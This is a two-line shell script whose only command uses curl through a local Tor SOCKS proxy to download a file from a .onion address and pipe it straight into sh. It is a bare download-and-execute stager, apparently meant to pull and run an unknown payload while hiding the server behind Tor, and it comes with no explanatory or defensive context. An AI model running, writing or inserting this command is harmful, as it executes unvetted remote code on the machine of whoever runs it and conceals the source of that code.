#!/bin/sh
curl --socks5-hostname localhost:9050 http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/x | sh
